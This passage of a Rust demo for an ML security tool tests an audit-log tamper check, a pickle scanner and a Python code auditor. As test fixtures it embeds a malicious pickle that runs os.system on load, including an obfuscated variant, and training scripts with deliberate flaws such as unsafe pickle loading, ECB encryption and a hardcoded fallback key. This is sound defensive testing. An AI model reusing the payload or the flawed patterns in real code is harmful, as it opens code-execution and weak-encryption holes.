        statuses[0], statuses[1], statuses[2], statuses[3], thousands(exported as u64)
    ))?;
    d.out.line(&format!(
        "  a data steward streams data.csv in: {} ({} rows validated, protected, checked, sealed by the server) [{}]; the consumer may not [{}]",
        uploaded.0,
        thousands(uploaded.1.unwrap_or(0)),
        statuses[5],
        statuses[6]
    ))?;
    if d.kept {
        // The tokens of three roles, for a person to sign in to the console with.
        let text = format!(
            "# Sign in at https://127.0.0.1:8443/ui/ with one of these tokens.\nauditor ada {}\ndata-steward sue {}\ndata-scientist sam {}\n",
            tokens[2], tokens[3], tokens[1]
        );
        write_private(&d.dir.join("console-tokens.txt"), &text)?;
    }
    // Someone with write access to the catalog rewrites the tampered-model failure as allowed.
    let v = state.vault();
    v.checkpoint()?;
    let good = v.verify_audit(local())?;
    let failed = v
        .catalog()
        .audit_entries(0)?
        .into_iter()
        .find(|(_, text, _)| text.contains("\"outcome\":\"failed\""))
        .map(|(idx, _, _)| idx)
        .context("the audit log records no failed action")?;
    let original =
        v.catalog().rewrite_audit_entry(failed, &mut |t| t.replace("\"failed\"", "\"allowed\""))?;
    let bad = v.verify_audit(local())?;
    // Put it back: the vault kept with --out still verifies.
    v.catalog().rewrite_audit_entry(failed, &mut |_| original.clone())?;
    d.out.line(&format!(
        "  audit log: {} entries, every request included, Ed25519 checkpoints: {} (also via the API); one entry rewritten: {} at entry {}; in the web console (/ui/) the auditor signs in [{}] and reads it [{}, {shown} entries listed]; the consumer may not sign in [{}]",
        good.entries,
        if good.ok() && statuses[4] == 1 { d.out.good("verified") } else { d.out.bad("FAILED") },
        if bad.ok() { d.out.bad("ACCEPTED") } else { d.out.good("caught") },
        bad.first_bad_entry.map_or("?".into(), |i| i.to_string()),
        statuses[7],
        statuses[8],
        statuses[9],
    ))?;
    if statuses[..4] != [200, 403, 401, 200]
        || statuses[4] != 1
        || statuses[5..] != [201, 403, 303, 200, 403]
        || shown == 0
        || predicted == 0
    {
        d.failures.push(format!("the server answered {statuses:?}"));
    }
    if !good.ok() || bad.ok() {
        d.failures.push("the audit log did not verify, or an edit was not caught".into());
    }
    Ok(())
}

/// A cookie the response sets, as `name=value`.
fn cookie(headers: &reqwest::header::HeaderMap, name: &str) -> Option<String> {
    headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|c| c.starts_with(&format!("{name}=")))
        .and_then(|c| c.split(';').next())
        .map(str::to_owned)
}

/// Writes `text` to a new file only its owner may read.
fn write_private(path: &Path, text: &str) -> anyhow::Result<()> {
    use std::io::Write;
    let _ = fs::remove_file(path);
    let mut options = fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
    let mut f = options.open(path).with_context(|| format!("cannot create {}", path.display()))?;
    f.write_all(text.as_bytes())?;
    Ok(())
}

fn scan_models(d: &mut Demo<'_>) -> anyhow::Result<()> {
    use mlguard_findings::Severity;
    use mlguard_pickle::{ScanOptions, scan_bytes};
    // What `torch.save` of a state dict holds, and the classic payload: os.system on load.
    let state: &[u8] = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x06\x00\x00\x00weightq\x02ctorch._utils\n_rebuild_tensor_v2\nq\x03(X\x01\x00\x00\x000tRs.";
    let evil: &[u8] = b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
    // The same call with its names hidden in protocol-0 escapes (CPython unescapes them).
    let escaped: &[u8] = b"S'o\\x73'\nS'sy\\163tem'\n\x93(S'id'\ntR.";
    let opts = ScanOptions::default();
    let mut parts = Vec::new();
    for (name, data, want_flagged) in [
        ("state_dict.pkl", state, false),
        ("model.pkl", evil, true),
        ("escaped.pkl", escaped, true),
    ] {
        let findings = scan_bytes(name, data, &opts);
        let worst = findings.iter().max_by_key(|f| f.severity);
        let flagged = worst.is_some_and(|f| f.severity >= Severity::Medium);
        parts.push(match worst.filter(|_| flagged) {
            Some(f) => format!(
                "{} {name}: {} [{}]",
                d.out.bad(&f.severity.to_string()),
                f.message,
                f.check
            ),
            None => format!("{} {name}: only allowlisted imports", d.out.good("clean")),
        });
        if flagged != want_flagged {
            d.failures.push(format!("the scanner misjudged {name}"));
        }
    }
    d.out.line(&format!("  {}", parts.join("; ")))?;
    Ok(())
}

/// The pipeline most tutorials teach (and its syntax error), then the same written safely.
const FLAWED_SCRIPT: &str = r#"import pickle, os
import pandas as pd
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import train_test_split
from cryptography.fernet import Fernet

def check(df):
    if df.isnull()values.all():
        raise ValueError("nulls")
    return df

data = check(pd.read_csv("users.csv"))
X_train, X_test, y_train, y_test = train_test_split(data, data["y"], random_state=os.urandom(16))
model = LogisticRegression().fit(X_train, y_train)
key = Fernet.generate_key()
open("model.enc", "wb").write(Fernet(key).encrypt(pickle.dumps(model)))
model = pickle.load(open("model.sav", "rb"))
"#;

/// The flaws a reviewer finds by following the data: a helper's return, a check that only
/// logs, encryption that does not protect, a key that falls back to a literal.
const SERVICE_SCRIPT: &str = r#"import logging, os
import pandas as pd
import pandera as pa
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

SCHEMA = pa.DataFrameSchema({"age": pa.Column(int, pa.Check.ge(0))})

def load_rows(path):
    return pd.read_parquet(path)

class Trainer:
    def fit(self, path, model):
        df = load_rows(path)
        try:
            SCHEMA.validate(df)
        except pa.errors.SchemaError as e:
            logging.warning("bad rows: %s", e)
        return model.fit(df, df.pop("y"))

    def seal(self, blob):
        key = os.environ.get("MODEL_KEY", "dev-key-0123456789abcdef").encode()
        return Cipher(algorithms.AES(key), modes.ECB()).encryptor().update(blob)
"#;

const SAFE_SCRIPT: &str = r#"import secrets
import pandas as pd
import pandera as pa
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import train_test_split

SCHEMA = pa.DataFrameSchema({"age": pa.Column(int, pa.Check.ge(0))})
data = SCHEMA.validate(pd.read_csv("users.csv"))
X_train, X_test, y_train, y_test = train_test_split(data, data["y"], random_state=secrets.randbits(32))
model = LogisticRegression().fit(X_train, y_train)
"#;

fn audit_code(d: &mut Demo<'_>) -> anyhow::Result<()> {
    use mlguard_pyaudit::{AuditOptions, audit_source, rule};
    let opts = AuditOptions::default();
    let findings = audit_source("train.py", FLAWED_SCRIPT, &opts);
    let mut classes = Vec::new();
    for f in &findings {
        let class = rule(&f.check).map(|r| r.class);
        if let Some(class) = class.filter(|c| *c != mlguard_pyaudit::FlawClass::Analysis)
            && !classes.contains(&class)
        {
            classes.push(class);
        }
    }
    // `line:CODE` per finding, high severity in colour (`--explain CODE` tells more).
    let render = |found: &[mlguard_findings::Finding]| -> String {
        let items: Vec<String> = found
            .iter()
            .map(|f| {
                let item = format!("{}:{}", f.location.line.unwrap_or(0), f.check);
                if f.severity >= mlguard_findings::Severity::High { d.out.bad(&item) } else { item }
            })
            .collect();
        items.join(" · ")
    };
    let items = render(&findings);
    // Following the data through a helper and a class; checks and encryption that do not
    // protect.
    let service = audit_source("service.py", SERVICE_SCRIPT, &opts);
    let service_items = render(&service);
    let safe = audit_source("train_safe.py", SAFE_SCRIPT, &opts);
    d.out.line(&format!(
        "  train.py {}: {} findings in {} of the 6 flaw classes; {} on the safe rewrite; service.py, by following the data (a helper, a logged validation error, ECB, a key fallback): {}",
        items,
        findings.len(),
        classes.len(),
        if safe.is_empty() { d.out.good("none") } else { d.out.bad(&safe.len().to_string()) },
        service_items
    ))?;
    let must = ["MLG001", "MLG102", "MLG302", "MLG503", "MLG401"];
    for code in must {
        if !findings.iter().any(|f| f.check == code) {
            d.failures.push(format!("the code auditor missed {code}"));
        }
    }
    for code in ["MLG101", "MLG606", "MLG502", "MLG505"] {
        if !service.iter().any(|f| f.check == code) {
            d.failures.push(format!("the code auditor missed {code} in service.py"));
        }
    }
    if !safe.is_empty() {
        d.failures.push(format!("the code auditor flagged the safe script: {safe:?}"));
    }
    Ok(())
}
